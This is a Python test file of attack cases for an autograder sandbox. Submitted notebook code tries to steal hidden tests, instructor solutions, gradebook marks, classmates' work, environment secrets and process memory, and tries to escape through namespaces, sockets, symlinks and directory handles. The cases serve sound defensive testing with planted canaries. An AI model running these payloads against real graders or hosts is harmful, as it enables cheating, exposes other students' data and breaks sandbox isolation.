"""Table C: looking for hidden tests, solutions, marks, classmates, secrets of the host, and ways out."""

from tests.attacks.case import NONE, Case, HandIn, Link, answered, beside, cheat, first, instead

# What every spy has with it. "canary-…" is how secrets begin; hidden tests are another matter (C01).
_LOOK = r'''
import os, re, sys, glob, json, sqlite3, socket
from pathlib import Path
def look(*things):
    """Print each secret in files, bytes or text."""
    for thing in things:
        try:
            if isinstance(thing, Path):
                with open(os.open(thing, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                    thing = file.read(5_000_000)
            raw = thing if isinstance(thing, bytes) else str(thing).encode()
        except Exception:
            continue
        for word in set(re.findall(rb"canary-\w+-\w+", raw)):
            print("FOUND", word.decode())
ROOTS = ["../../..", "<<COURSE>>", "/proc/1/root<<COURSE>>", "/proc/1/cwd", "/proc/self/root<<COURSE>>"]
'''


def _spy(code: str) -> HandIn:
    return first(_LOOK + code)


def _thief(code: str) -> HandIn:
    """Answers nothing and runs what it can find."""
    return cheat(_LOOK + code)


_RUN_ANSWERS = """
import builtins
def take(path):
    try:
        cells = json.loads(Path(path).read_text())["cells"]
    except Exception:
        return
    look("".join("".join(c["source"]) for c in cells))
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            stolen.append("".join(cell["source"]))
stolen = []
for root in ROOTS:
    for path in glob.glob(root + "/%s", recursive=True):
        take(path)
def replay(*args):
    for code in stolen:
        try:
            exec(code, get_ipython().user_ns)
        except Exception:
            pass
get_ipython().events.register("pre_run_cell", replay)"""

SPYING = [
    Case(
        "C01",
        "writes down the running test, and shows it in a later answer",
        "leak: the whole hidden test",
        answered(
            leaky="def leaky(z, a=0.1):\n    global seen\n    seen = In[-1]\n    return torch.where(z < 0, a * z, z)",
            relu_="def relu_(z):\n    z.clamp_(min=0)\nprint(seen)",
        ),
        spies=True,
    ),
    Case(
        "C02",
        "reads the notebook that is being graded, and all in its folder",
        "leak: hidden tests lie in the working folder",
        _spy("look(*Path('.').rglob('*'), *Path('..').rglob('*'))"),
        spies=True,
    ),
    Case(
        "C03",
        "runs the instructor's solutions",
        "full marks",
        _thief(_RUN_ANSWERS % "source/*/*.ipynb"),
        NONE,
        spies=True,
    ),
    Case(
        "C04",
        "reads tests, names and marks in the gradebook",
        "leak: tests and everybody's marks",
        _spy("""
for root in ROOTS:
    look(Path(root) / "gradebook.db")
    try:
        base = sqlite3.connect(f"file:{root}/gradebook.db?mode=ro", uri=True)
        look(base.execute("select * from student").fetchall())
        look(base.execute("select source from source_cell").fetchall())
    except sqlite3.Error as error:
        print(type(error).__name__)"""),
        spies=True,
    ),
    Case(
        "C05",
        "runs a classmate's answers",
        "full marks",
        _thief(_RUN_ANSWERS % "[sa][tu]*/*/ps1/p1.ipynb"),
        NONE,
        spies=True,
    ),
    Case(
        "C06",
        "walks the disk for notebooks, gradebooks and grader's files",
        "leak: tests, marks, classmates, home, /tmp: all of the disk",
        _spy("""
import time
end = time.monotonic() + 2
for root in ("/tmp", "/home", "/root", "/mnt", "/srv", "/var/tmp", "/dev/shm", "/run"):
    for folder, below, names in os.walk(root):
        if time.monotonic() > end:
            break
        below[:] = [name for name in below if name not in (".venv", "node_modules", ".git")]
        look(*(Path(folder, name) for name in names if name.endswith((".ipynb", ".db", ".json", ".txt"))))"""),
        spies=True,
    ),
    Case(
        "C07",
        "reads the tests that ran before in the shell's history",
        "leak: the whole hidden tests",
        answered(spread="print(In)\ndef spread(xs):\n    return min(xs), max(xs), sum(xs) / len(xs)"),
        spies=True,
    ),
    Case(
        "C08",
        "reads the environment",
        "leak: all that stands in the instructor's environment",
        _spy("look(os.environ, Path('/proc/self/environ'), Path('/proc/1/environ'))"),
        spies=True,
    ),
    Case(
        "C09",
        "reads the home folder, /tmp and shared memory",
        "leak",
        _spy("""
homes = {Path.home(), Path("/root"), Path("<<HOME_FILE>>").parent, *Path("/home").glob("*")}
look(Path("<<HOME_FILE>>"), Path("<<TMP_FILE>>"), Path("<<SHM_FILE>>"))
for folder in (*homes, Path("/tmp"), Path("/var/tmp"), Path("/dev/shm")):
    try:
        look(*folder.glob(".*"), *folder.glob("*"))
    except OSError:
        pass"""),
        spies=True,
    ),
    Case(
        "C10",
        "reads other processes: arguments, environment, root, memory",
        "leak: the processes of the host are seen",
        _spy("""
for process in Path("/proc").glob("[0-9]*"):
    look(process / "environ", process / "cmdline")
    for way in ("root<<TMP_FILE>>", "root<<HOME_FILE>>", "cwd/gradebook.db", "root<<COURSE>>/gradebook.db"):
        look(process / way)
parent = os.getppid() or 1
try:
    for line in open(f"/proc/{parent}/maps"):
        if "[heap]" in line or "rw-p" in line:
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            with open(f"/proc/{parent}/mem", "rb", 0) as memory:
                memory.seek(a)
                look(memory.read(min(b - a, 1 << 24)))
except OSError as error:
    print(type(error).__name__)"""),
        spies=True,
    ),
    Case(
        "C11",
        "looks for the connection files of other kernels",
        "leak: every kernel's key can be read",
        _spy("""
from jupyter_core.paths import jupyter_runtime_dir
look(Path("<<CONNECTION_FILE>>"), *Path(jupyter_runtime_dir()).glob("*"))"""),
        spies=True,
    ),
    Case(
        "C12",
        "reads what earlier learners left in the memory of a process that was forked",
        "leak: the instructor's environment, inherited",
        _spy("""
kinds = [b"classmate", b"gradebook", b"environment", b"home", b"source"]
found = set()
for line in open("/proc/self/maps"):
    span, rights, *_ = line.split()
    if rights.startswith("rw") and "[v" not in line:
        a, b = (int(x, 16) for x in span.split("-"))
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(a)
                part = memory.read(min(b - a, 1 << 26))
        except (OSError, OverflowError):
            continue
        for kind in kinds:
            found |= set(re.findall(b"canary" + b"-" + kind + rb"-\\w+", part))
look(b" ".join(found))"""),
        spies=True,
    ),
    Case(
        "C13",
        "reads from every file that the process was born with",
        "finds nothing",
        _spy("""
for fd in range(3, 512):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
        look(where)
        if where.startswith("/") and not where.startswith("/dev"):
            look(os.pread(fd, 1 << 20, 0))
            for name in os.listdir(fd):
                look(name, os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=fd), 1 << 20))
    except OSError:
        pass"""),
        spies=True,
    ),
    Case(
        "C14",
        "hands in links to the gradebook, a secret file and the course beside the notebook",
        "leak: links are followed and copied",
        beside(
            {
                "data.db": Link("../../../gradebook.db"),
                "data.txt": Link("<<HOME_FILE>>"),
                "course": Link("<<COURSE>>"),
            },
            _spy("look(Path('data.db'), Path('data.txt'), *Path('course').glob('*.db'))"),
        ),
        spies=True,
        says="Left out: course, data.db, data.txt",
    ),
    Case(
        "C15",
        "hands in a link to a classmate's notebook",
        "full marks: the link is followed",
        instead({"p1.ipynb": Link("../../z_last/ps1/p1.ipynb")}),
        NONE,
        by_hand=(),
        says="no plain file",
    ),
    Case(
        "C16",
        "looks for the grader's own sources beside the packages it may import",
        "leak",
        _spy("""
for root in {*sys.path, "<<REPO>>", *(str(Path(p).parent) for p in sys.path if p)}:
    for way in ("autograder/source", "autograder/master", "solutions", "tests/answers", "tests/attacks"):
        try:
            if os.listdir(Path(root) / way):
                print("FOUND canary" + "-source-<<WORD>>")
        except OSError:
            pass"""),
        spies=True,
    ),
    Case(
        "C17",
        "calls listeners of the host: loopback, Unix, abstract",
        "all three answer",
        _spy("""
for family, address in ((socket.AF_INET, ("127.0.0.1", int("<<PORT>>"))), (socket.AF_UNIX, "<<SOCKET>>"),
                        (socket.AF_UNIX, "\\0<<ABSTRACT>>")):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as call:
            call.settimeout(2)
            call.connect(address)
            call.send(b"hello")
            look(call.recv(1000))
    except OSError as error:
        print(type(error).__name__)"""),
        spies=True,
    ),
    Case(
        "C18",
        "calls the host's listener through a link to its socket in the own folder",
        "it answers",
        _spy("""
os.symlink("<<SOCKET>>", "way-out")
try:
    with socket.socket(socket.AF_UNIX) as call:
        call.settimeout(2)
        call.connect("way-out")
        look(call.recv(1000))
except OSError as error:
    print(type(error).__name__)
finally:
    os.unlink("way-out")"""),
        spies=True,
    ),
    Case(
        "C19",
        "enters the namespaces of another process, or new ones, to see more",
        "leak: home and /tmp, as for every process",
        _spy("""
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for process in ("1", str(os.getppid())):
    for kind in ("user", "mnt", "net", "pid"):
        try:
            libc.setns(os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY), 0)
        except OSError:
            pass
look(Path("<<HOME_FILE>>"), Path("<<TMP_FILE>>"))
script = "umount -l /tmp; umount -l /root; umount -l /home; cat <<TMP_FILE>> <<HOME_FILE>>"
done = subprocess.run(["unshare", "-Urm", "sh", "-c", script], capture_output=True, timeout=5)
look(done.stdout)"""),
        spies=True,
    ),
    Case(
        "C20",
        "leaves its own folder by .. and by an open handle",
        "leak: all of the disk",
        _spy("""
here = os.open(".", os.O_RDONLY)
for _ in range(40):
    up = os.open("..", os.O_RDONLY, dir_fd=here)
    os.close(here)
    here = up
    for name in os.listdir(here):
        look(name)
os.chdir(here)
look(Path("." + "<<TMP_FILE>>"), Path("." + "<<HOME_FILE>>"), Path("." + "<<COURSE>>/gradebook.db"))"""),
        spies=True,
    ),
]
